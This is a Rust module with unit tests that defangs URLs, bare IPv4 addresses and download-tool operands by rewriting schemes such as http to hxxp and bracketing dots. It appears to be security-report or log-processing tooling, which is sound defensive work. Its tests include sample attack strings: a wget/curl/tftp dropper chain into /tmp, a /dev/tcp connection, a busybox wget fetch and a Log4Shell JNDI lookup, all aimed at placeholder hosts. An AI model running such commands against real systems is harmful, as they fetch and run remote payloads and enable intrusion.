//! Addresses of files made so that nothing follows them: `hxxp://evil[.]example/x`.
//!
//! The scheme is misspelled, and the last dot of the host stands in brackets, as reports have it.
//! In commands also IPv4 addresses without a scheme, and hosts behind `wget`, `curl`, `tftp` and
//! their like that have a path or port behind them.

use std::borrow::Cow;
use std::ops::Range;

use super::addresses::{self, Form};
use super::edits::{Edit, apply};
use super::shell::{Token, tokens};

/// What a text is, and so what in it may be fetched.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Content {
    /// Only what has a scheme.
    Text,
    /// A command line.
    Command,
    /// The address of a file, whose scheme may be missing; or its name alone.
    Url,
}

/// The text without anything that a browser or a mail program would make a link of.
pub(super) fn defang(text: &str, content: Content) -> Cow<'_, str> {
    let mut edits = Vec::new();
    with_scheme(text, &mut edits);
    match content {
        Content::Text => {}
        Content::Command => {
            bare_addresses(text, &mut edits);
            downloads(text, &mut edits);
        }
        Content::Url => {
            if !text.contains("://") {
                bare_host(text, 0..text.len(), &mut edits);
            }
        }
    }
    apply(text, edits)
}

/// Does a byte end a host or what stands before it?
fn ends_authority(byte: u8) -> bool {
    b"/?#\"'<>|;`()\\$,{}".contains(&byte) || byte.is_ascii_whitespace()
}

fn with_scheme(text: &str, edits: &mut Vec<Edit>) {
    let bytes = text.as_bytes();
    for at in memchr::memmem::find_iter(bytes, b"://") {
        let is_scheme = |byte: &&u8| byte.is_ascii_alphanumeric() || b"+-.".contains(byte);
        let length = bytes.iter().take(at).rev().take_while(is_scheme).take(SCHEME_LIMIT).count();
        let scheme = text.get(at - length..at).unwrap_or_default();
        match scheme.to_ascii_lowercase().as_str() {
            "http" => edit(at - length..at, "hxxp", edits),
            "https" => edit(at - length..at, "hxxps", edits),
            "ftp" => edit(at - length..at, "fxp", edits),
            "ftps" => edit(at - length..at, "fxps", edits),
            "sftp" => edit(at - length..at, "sfxp", edits),
            "tftp" => edit(at - length..at, "tfxp", edits),
            "hxxp" | "hxxps" | "fxp" | "fxps" | "sfxp" | "tfxp" => {}
            _ => edit(at..at + 1, "[:]", edits),
        }
        let start = at + 3;
        let rest = bytes.iter().skip(start);
        let end = start + rest.take_while(|byte| !ends_authority(**byte)).count();
        let user = memchr::memrchr(b'@', bytes.get(start..end).unwrap_or_default());
        let host = start + user.map_or(0, |at| at + 1);
        let length = bytes.get(host..end).unwrap_or_default();
        let length = memchr::memchr(b':', length).unwrap_or(length.len());
        last_dot(text, host..host + length, edits);
    }
}

/// The longest scheme that is looked back for; the longest registered one has 36 letters.
const SCHEME_LIMIT: usize = 36;

fn edit(range: Range<usize>, with: &'static str, edits: &mut Vec<Edit>) {
    edits.push(Edit { range, with: Cow::Borrowed(with) });
}

/// Puts the last dot of a host into brackets, if it does not stand in some.
fn last_dot(text: &str, host: Range<usize>, edits: &mut Vec<Edit>) {
    let Some(name) = text.get(host.clone()) else { return };
    // The dot at the very end is the root of the name service.
    let name = name.strip_suffix('.').unwrap_or(name);
    if let Some(dot) = name.rfind('.')
        && !name.get(..dot).is_some_and(|before| before.ends_with('['))
    {
        edit(host.start + dot..host.start + dot + 1, "[.]", edits);
    }
}

/// IPv4 addresses as they are usually written, wherever they stand.
fn bare_addresses(text: &str, edits: &mut Vec<Edit>) {
    let bytes = text.as_bytes();
    addresses::each_v4(bytes, &mut |found| {
        let dotted = bytes.get(found.range.clone()).unwrap_or_default();
        let goes_on = |dot: Option<usize>, digit: Option<usize>| {
            let byte = |at: Option<usize>| at.and_then(|at| bytes.get(at));
            byte(dot) == Some(&b'.') && byte(digit).is_some_and(u8::is_ascii_digit)
        };
        let Range { start, end } = found.range;
        let is_whole = !goes_on(start.checked_sub(1), start.checked_sub(2))
            && !goes_on(Some(end), Some(end + 1));
        if found.form == Form::Plain
            && is_whole
            && dotted.iter().filter(|byte| **byte == b'.').count() == 3
        {
            last_dot(text, start..end, edits);
        }
    });
}

/// The operands of programs that fetch files.
fn downloads(text: &str, edits: &mut Vec<Edit>) {
    const PROGRAMS: [&str; 8] =
        ["wget", "curl", "tftp", "ftpget", "ftp", "fetch", "lwp-download", "axel"];
    let mut fetches = false;
    for token in tokens(text) {
        let Token::Word(word) = token else {
            fetches = false;
            continue;
        };
        let operand = text.get(word.inner.clone()).unwrap_or_default();
        let name = operand.rsplit('/').next().unwrap_or(operand);
        if PROGRAMS.contains(&name) {
            fetches = true;
        } else if fetches && !operand.contains("://") {
            bare_host(text, word.inner, edits);
        }
    }
}

/// A host without a scheme: labels with dots between, the last of which is no number, and a path,
/// port or query behind it; or an address.
fn bare_host(text: &str, range: Range<usize>, edits: &mut Vec<Edit>) {
    let Some(whole) = text.get(range.clone()) else { return };
    let length = whole.find(['/', ':', '?']).unwrap_or(whole.len());
    let host = whole.get(..length).unwrap_or_default();
    let is_address = host.parse::<std::net::Ipv4Addr>().is_ok();
    let is_label = |label: &str| {
        !label.is_empty() && label.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-')
    };
    let is_name = length < whole.len()
        && host.contains('.')
        && host.split('.').all(is_label)
        && host.ends_with(|last: char| last.is_ascii_alphabetic());
    if is_address || is_name {
        last_dot(text, range.start..range.start + length, edits);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_may_be_fetched_is_defanged() {
        for (content, text, defanged) in [
            (Content::Url, "http://1.2.3.4/x", "hxxp://1.2.3[.]4/x"),
            (Content::Url, "HTTPS://a.evil.example:80/x.y", "hxxps://a.evil[.]example:80/x.y"),
            (Content::Url, "tftp://h/x.sh", "tfxp://h/x.sh"),
            (Content::Url, "ftp://u:p@evil.example", "fxp://u:p@evil[.]example"),
            (Content::Url, "http://[2001:db8::7]/", "hxxp://[2001:db8::7]/"),
            (Content::Url, "evil.example/x", "evil[.]example/x"),
            (Content::Url, "1.2.3.4", "1.2.3[.]4"),
            (Content::Url, "hxxp://evil[.]example/", "hxxp://evil[.]example/"),
            (Content::Text, "GET http://evil.example/", "GET hxxp://evil[.]example/"),
            (Content::Text, "${jndi:ldap://evil.example/a}", "${jndi:ldap[:]//evil[.]example/a}"),
            (
                Content::Command,
                "cd /tmp;wget http://a.b/c;curl -O 1.2.3.4/d; tftp -g 1.2.3.4",
                "cd /tmp;wget hxxp://a[.]b/c;curl -O 1.2.3[.]4/d; tftp -g 1.2.3[.]4",
            ),
            (Content::Command, "exec 6<>/dev/tcp/1.2.3.4/80", "exec 6<>/dev/tcp/1.2.3[.]4/80"),
            (
                Content::Command,
                "busybox wget evil.example/x -O y.sh",
                "busybox wget evil[.]example/x -O y.sh",
            ),
        ] {
            assert_eq!(defang(text, content), defanged, "{text}");
            assert_eq!(defang(defanged, content), defanged, "twice: {text}");
        }
    }

    #[test]
    fn what_is_no_address_stays() {
        for (content, text) in [
            (Content::Url, "/dev/null"),
            (Content::Url, "x.sh"),
            (Content::Url, "sshd"),
            (Content::Url, "./a.b/c"),
            (Content::Text, "1.2.3.4"),
            (Content::Command, "rm -rf x.sh; ls a.b/c"),
            (Content::Command, "wget; sh x.y/z"),
            (Content::Command, "snmpget 1.3.6.1.4.1"),
            (Content::Command, "://"),
        ] {
            let defanged = defang(text, content).into_owned();
            assert_eq!(defanged.replace("[:]", ":"), text, "{text}");
        }
    }
}
